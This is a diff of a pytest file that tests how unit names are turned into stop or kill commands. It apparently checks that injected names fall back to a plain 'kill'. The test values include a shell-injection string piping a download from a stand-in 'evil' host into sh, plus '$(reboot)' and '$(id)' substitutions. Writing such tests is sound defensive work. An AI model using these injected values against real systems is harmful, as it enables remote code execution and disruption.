@@ -158,7 +158,7 @@ def holder(command: str = "python3", **where: str) -> Holder:
         pytest.param(holder(unit="a;curl evil|sh .service"), "kill 4711", id="a name that no unit has"),
         pytest.param(holder(unit="$(reboot).scope"), "kill 4711", id="a name that a shell would run"),
         pytest.param(holder(unit="x" * 300 + ".service"), "kill 4711", id="a name that is too long"),
-        pytest.param(holder(unit="session-$(id).scope"), "kill 4711", id="a session that is none"),
+        pytest.param(holder(unit="session-$(id).scope"), "kill 4711", id="not a session"),
         pytest.param(
             holder(unit=r"run-\x2dq.service"), r"systemctl stop -- 'run-\x2dq.service'", id="a name with an escape"
         ),
